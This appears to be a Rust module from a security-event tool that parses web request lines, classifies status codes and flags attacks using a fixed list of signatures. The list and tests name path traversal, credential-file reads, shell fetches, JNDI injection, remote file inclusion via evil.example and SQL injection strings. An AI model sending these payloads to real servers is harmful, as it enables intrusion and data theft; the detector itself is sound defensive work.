//! What a web request means: its line taken apart, how its status reads, and the marks of an
//! attack. Shared by the formats of web servers and proxies; it reads no log line itself.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use tocsin_event::{Activity, Class, Field, Status, Writer};

use crate::find;

/// Texts that have no honest use in a request, in any case. Each attacks a server whatever it
/// answers: shells and interpreters called by address, files of the system, code sent as data.
const ATTACKS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "%2fetc%2fpasswd",
    "/proc/self/environ",
    "win.ini",
    "../..",
    "..%2f",
    "..%5c",
    "%2e%2e%2f",
    "%2e%2e/",
    ".%2e/",
    "%%32%65",
    "%c0%ae",
    "%252e%252e",
    "/bin/sh",
    "/bin/bash",
    "/bin/busybox",
    "cmd.exe",
    "powershell",
    "wget+http",
    "wget%20http",
    "wget http",
    "curl%20http",
    "curl+http",
    "eval-stdin.php",
    "allow_url_include",
    "auto_prepend_file",
    "=php://",
    "=expect://",
    "=data://",
    "invokefunction",
    "${jndi:",
    "%24%7bjndi",
    "${lower:",
    "${upper:",
    "${::-",
    "${env:",
    "() {",
    "()%20{",
    "()%20%7b",
    "<script",
    "%3cscript",
    "union select",
    "union+select",
    "union%20select",
    "union all select",
    "union+all+select",
    "union%20all%20select",
    "/**/select",
    "information_schema",
    "xp_cmdshell",
    "waitfor delay",
    "waitfor%20delay",
    "%27%20or%20",
    "'%20or%20",
    "' or '",
    "sleep(",
    "benchmark(",
    "%00",
];

static SIGNS: LazyLock<AhoCorasick> = LazyLock::new(signs);

#[expect(clippy::expect_used, reason = "the table above is small and fixed")]
fn signs() -> AhoCorasick {
    let kind = Some(aho_corasick::AhoCorasickKind::DFA);
    let built = AhoCorasick::builder().ascii_case_insensitive(true).kind(kind).build(ATTACKS);
    built.expect("a small automaton")
}

/// Whether a header of the client's choosing (agent, referrer) carries an attack. Code needs
/// marks that honest headers rarely have, so most are not searched.
#[must_use]
pub fn attacks_in_header(text: &str) -> bool {
    memchr::memchr3(b'{', b'<', b'\'', text.as_bytes()).is_some() && SIGNS.is_match(text)
}

/// `GET /path?query HTTP/1.1`, in parts.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Request<'t> {
    /// The method, empty where the text is no request.
    pub method: &'t str,
    /// The target as sent: a path, an address, or `host:port`.
    pub target: &'t str,
    /// `1.1` of `HTTP/1.1`.
    pub version: &'t str,
}

impl<'t> Request<'t> {
    /// Takes a request line apart; `None` where it is none, such as the bytes of a TLS greeting.
    #[must_use]
    pub fn read(line: &'t str) -> Option<Self> {
        let (method, rest) = line.split_once(' ')?;
        let is_method = |b: u8| b.is_ascii_uppercase() || b == b'_' || b == b'-';
        if method.is_empty() || method.len() > 20 || !method.bytes().all(is_method) {
            return None;
        }
        let space = memchr::memrchr(b' ', rest.as_bytes()).unwrap_or(rest.len());
        let (target, protocol) = rest.split_at_checked(space)?;
        match protocol.strip_prefix(" HTTP/") {
            Some(version) => Some(Request { method, target, version }),
            None => Some(Request { method, target: rest, version: "" }),
        }
    }

    /// Writes the request into the event, and calls it an attack where it carries one.
    pub fn apply(&self, out: &mut Writer<'_>) {
        out.event.class = Class::Http;
        out.event.activity = activity(self.method);
        out.set(Field::HttpMethod, self.method);
        out.set(Field::HttpVersion, self.version);
        target(self.target, out);
    }
}

/// The target as path and query, and as host where it names one.
fn target(target: &str, out: &mut Writer<'_>) {
    let path = match after_scheme(target) {
        Some(rest) => {
            let slash = rest.bytes().position(|b| b == b'/' || b == b'?').unwrap_or(rest.len());
            let (host, path) = rest.split_at_checked(slash).unwrap_or((rest, ""));
            out.set(Field::HttpHost, host);
            path
        }
        None => target,
    };
    match memchr::memchr(b'?', path.as_bytes()).and_then(|at| path.split_at_checked(at)) {
        Some((path, query)) => {
            out.set(Field::UrlPath, path);
            out.set(Field::UrlQuery, query.get(1..).unwrap_or_default());
        }
        None => out.set(Field::UrlPath, path),
    }
}

/// What follows `http://`, in a text that begins with an address of the web.
#[must_use]
pub fn after_scheme(text: &str) -> Option<&str> {
    let scheme = text.bytes().take_while(u8::is_ascii_alphanumeric).count();
    text.get(scheme..)?.strip_prefix("://")
}

/// The marks of an attack in a target: such as `/etc/passwd`, and code fetched from elsewhere
/// (`index.php?page=http://evil.example/x.txt?`, whose last mark cuts off what the script appends).
#[must_use]
pub fn attacks(target: &str) -> bool {
    if SIGNS.is_match(target) {
        return true;
    }
    let Some((path, query)) = target.split_once('?') else { return false };
    if !path.ends_with(".php") {
        return false;
    }
    let fetches = ["=http://", "=https://", "=ftp://"];
    let fetched = fetches.iter().find_map(|mark| find::split(query, mark));
    fetched.is_some_and(|(_, from)| from.contains('?'))
}

/// OCSF `http_activity`.
fn activity(method: &str) -> Activity {
    Activity(match method {
        "CONNECT" => 1,
        "DELETE" => 2,
        "GET" => 3,
        "HEAD" => 4,
        "OPTIONS" => 5,
        "POST" => 6,
        "PUT" => 7,
        "TRACE" => 8,
        "PATCH" => 9,
        "" => 0,
        _ => 99,
    })
}

/// What a status code says of the request; `attacked` outweighs any answer.
pub fn outcome(code: u16, attacked: bool, out: &mut Writer<'_>) {
    let (status, detail) = match code {
        _ if attacked => (Status::Failure, "exploit attempt"),
        100..=399 => (Status::Success, ""),
        401 | 407 => (Status::Failure, "wrong credentials"),
        403 => (Status::Failure, "forbidden"),
        404 | 410 => (Status::Failure, "not found"),
        405 | 501 => (Status::Failure, "not allowed"),
        429 => (Status::Failure, "rate limited"),
        400 | 414 | 431 | 505 => (Status::Failure, "protocol error"),
        // nginx: the client went away.
        499 => (Status::Unknown, ""),
        402..=498 => (Status::Failure, "denied"),
        500..=599 => (Status::Failure, "server error"),
        _ => (Status::Unknown, ""),
    };
    out.event.status = status;
    out.set(Field::StatusDetail, detail);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_line_is_taken_apart_and_garbage_is_not() {
        let read = |line| Request::read(line).map(|r| (r.method, r.target, r.version));
        assert_eq!(read("GET /a b?c HTTP/1.1"), Some(("GET", "/a b?c", "1.1")));
        assert_eq!(read("GET /"), Some(("GET", "/", "")));
        assert_eq!(read("\\x16\\x03\\x01 \\x02"), None);
        assert_eq!(read("-"), None);
    }

    #[test]
    fn attacks_are_told_from_odd_requests() {
        for target in [
            "/index.php?page=../../etc/hosts",
            "/cgi-bin/.%2E/.%2e/bin/sh",
            "/?x=${JNDI:ldap://192.0.2.1/a}",
            "/p.php?id=1%20UNION%20SELECT%201",
            "/index.php?n=http://evil.example/cmd.txt?",
        ] {
            assert!(attacks(target), "{target}");
        }
        for target in [
            "/login?next=https://www.example.com/home",
            "/index.php?url=http://www.example.com/",
            "/docs/select/union.html",
            "/a/../b",
            "/search?q=100%25",
        ] {
            assert!(!attacks(target), "{target}");
        }
    }
}
